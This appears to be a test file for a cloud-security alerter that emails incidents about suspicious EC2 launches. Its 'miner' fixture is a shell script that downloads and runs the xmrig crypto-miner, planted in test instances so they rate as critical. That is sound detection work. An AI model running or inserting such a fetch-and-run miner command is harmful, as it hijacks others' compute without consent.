import { describe, expect, it } from 'vitest';
import { runInstances, stateChange } from '../../support/events.ts';
import { createWorld, instance, start, type World } from '../../support/world.ts';

const minute = 60_000;
const miner = '#!/bin/sh\nwget https://example.com/xmrig && ./xmrig --donate-level 1';

/** The n-th instance, and the event that tells of its start. */
const id = (n: number): string => `i-${String(n).padStart(17, '0')}`;
const at = (n: number, region = 'us-east-1') => stateChange({ id: `event-${n}`, instanceId: id(n), region });

const minutesOf = (world: World): number[] => world.mails.map((mail) => Math.round((mail.time - start) / minute));
const kindsOf = (world: World): string[] => world.mails.map((mail) => mail.kind);

describe('an incident', () => {
  it('is mailed at once, and not again while nothing changes', async () => {
    const world = createWorld({ instances: [instance({ instanceId: id(1) })] });
    await world.handle([at(1)]);
    await world.pass(24 * 60 * minute);
    expect(kindsOf(world)).toEqual(['first']);
  });

  it('gathers what follows into one mail at 5, 15 and 60 minutes, and then hourly', async () => {
    const instances = Array.from({ length: 10 }, (_, n) => instance({ instanceId: id(n) }));
    const world = createWorld({ instances });
    for (const [n, pause] of [1, 3, 3, 7, 30, 30, 30, 30].entries()) {
      await world.handle([at(n)]);
      await world.pass(pause * minute);
    }
    await world.pass(180 * minute);
    expect(minutesOf(world)).toEqual([0, 5, 15, 60, 120]);
    expect(world.mails.map((mail) => mail.instances)).toEqual([1, 3, 5, 6, 8]);
  });

  it('is mailed at once when it gets worse', async () => {
    const instances = [instance({ instanceId: id(1) }), instance({ instanceId: id(2), userData: miner })];
    const world = createWorld({ instances });
    await world.handle([at(1)]);
    await world.pass(minute);
    await world.handle([at(2)]);
    expect(world.mails.map((mail) => [mail.kind, mail.verdict])).toEqual([
      ['first', 'notice'],
      ['escalation', 'critical'],
    ]);
  });

  it('never sends more than five mails in its first hour: a second escalation drops the one at 15 minutes', async () => {
    const instances = [
      ...Array.from({ length: 60 }, (_, n) => instance({ instanceId: id(n) })),
      instance({ instanceId: id(100), instanceType: 'p3.2xlarge' }),
      instance({ instanceId: id(101), userData: miner }),
    ];
    const world = createWorld({ instances });
    await world.handle([at(0)]);
    for (let n = 1; n < 60; n++) {
      if (n === 2) await world.handle([at(100)]);
      if (n === 4) await world.handle([at(101)]);
      await world.handle([at(n)]);
      await world.pass(minute);
    }
    await world.pass(90 * minute);
    const inFirstHour = world.mails.filter((mail) => mail.time <= start + 60 * minute);
    expect(inFirstHour.map((mail) => mail.kind)).toEqual([
      'first',
      'escalation',
      'escalation',
      'follow-up',
      'follow-up',
    ]);
    expect(world.mails.at(-1)?.instances).toBe(62);
  });

  it('holds the mail at 60 minutes back by a minute where escalations came late, and loses nothing', async () => {
    const instances = [
      ...Array.from({ length: 60 }, (_, n) => instance({ instanceId: id(n) })),
      instance({ instanceId: id(100), instanceType: 'p3.2xlarge' }),
      instance({ instanceId: id(101), userData: miner }),
    ];
    const world = createWorld({ instances });
    for (let n = 0; n < 59; n++) {
      await world.handle([at(n)]);
      if (n === 20) await world.handle([at(100)]);
      if (n === 30) await world.handle([at(101)]);
      await world.pass(minute);
    }
    await world.pass(90 * minute);
    expect(minutesOf(world)).toEqual([0, 5, 15, 20, 30, 61]);
    expect(world.mails.at(-1)?.instances).toBe(61);
  });

  it('closes after an hour without an alert: the next one is a new incident with a first mail of its own', async () => {
    const world = createWorld({ instances: [instance({ instanceId: id(1) }), instance({ instanceId: id(2) })] });
    const [first] = await world.handle([at(1)]);
    await world.pass(61 * minute);
    const [second] = await world.handle([at(2)]);
    expect(kindsOf(world)).toEqual(['first', 'first']);
    expect(first?.decision).toMatchObject({ kind: 'alert' });
    expect(second?.decision).not.toEqual(first?.decision);
    expect(world.mails[1]?.instances).toBe(1);
  });

  it('is not kept open by duplicates and expected launches', async () => {
    const allow = [{ name: 'ci', tags: { Project: 'ci' }, reason: 'runners' }];
    const instances = [1, 2, 3].map((n) =>
      instance({ instanceId: id(n), tags: n === 2 ? { Project: 'ci' } : { a: 'b' } }),
    );
    const world = createWorld({ instances, settings: { allow } });
    await world.handle([at(1)]);
    await world.pass(40 * minute);
    const later = await world.handle([at(1), at(2)]);
    expect(later.map((outcome) => outcome.decision.kind)).toEqual(['duplicate', 'expected']);
    await world.pass(30 * minute);
    await world.handle([at(3)]);
    expect(kindsOf(world)).toEqual(['first', 'first']);
  });

  it('below alertAt is no mail; the first one comes when it gets worse, and counts what was held back', async () => {
    const instances = [instance({ instanceId: id(1) }), instance({ instanceId: id(2), instanceType: 'p3.2xlarge' })];
    const world = createWorld({ instances, settings: { alertAt: 'high' } });
    const [quiet] = await world.handle([at(1)]);
    expect(quiet?.decision).toMatchObject({ kind: 'alert', verdict: 'notice' });
    expect(world.mails).toEqual([]);
    await world.handle([at(2)]);
    expect(kindsOf(world)).toEqual(['first']);
    expect(world.mails[0]?.instances).toBe(2);
  });

  it('says who did it in the follow-up, from the event history, without a trail', async () => {
    const world = createWorld({
      instances: [instance({ instanceId: id(1), userData: miner })],
      launcher: {
        kind: 'user',
        key: 'arn:aws:iam::123456789012:user/eve',
        name: 'eve',
        accessKeyId: 'AKIAIOSFODNN7EXAMPLE',
        isHuman: true,
      },
    });
    await world.handle([at(1)]);
    await world.pass(5 * minute);
    expect(kindsOf(world)).toEqual(['first', 'follow-up']);
    expect(world.mails[1]?.body).toContain('aws iam update-access-key --user-name eve');
  });

  it('learns who did it from the CloudTrail call that comes after the state change', async () => {
    const world = createWorld({ instances: [instance({ instanceId: id(1), userData: miner })] });
    await world.handle([at(1)]);
    const [call] = await world.handle([runInstances({ instanceIds: [id(1)] })]);
    expect(call?.decision).toMatchObject({ kind: 'duplicate', of: 'event-1' });
    await world.pass(5 * minute);
    expect(world.mails.map((mail) => mail.kind)).toEqual(['first', 'follow-up']);
    expect(world.mails[1]?.body).toContain('ci-deploy');
  });

  it('of a notice is not mailed again only because somebody is known now: that counts from high up', async () => {
    const world = createWorld({ instances: [instance({ instanceId: id(1) })] });
    await world.handle([at(1)]);
    await world.handle([runInstances({ instanceIds: [id(1)], instanceType: 't3.micro' })]);
    await world.pass(180 * minute);
    expect(kindsOf(world)).toEqual(['first']);
  });

  it('gets its missing facts from a later event about the same instance', async () => {
    let visible = false;
    const known = createWorld({ instances: [instance({ instanceId: id(1), instanceType: 'm5.large' })] }).ports
      .inventory;
    const world = createWorld({
      broken: {
        inventory: {
          ...known,
          instances: (place, ids) => (visible ? known.instances(place, ids) : Promise.resolve([])),
        },
      },
    });
    await world.handle([at(1)]);
    expect(world.mails[0]?.body).not.toContain('m5.large');
    visible = true;
    const [later] = await world.handle([stateChange({ instanceId: id(1), state: 'running' })]);
    expect(later?.decision.kind).toBe('duplicate');
    await world.handle([at(2)]);
    await world.pass(5 * minute);
    expect(world.mails.at(-1)?.body).toContain('m5.large');
  });
});
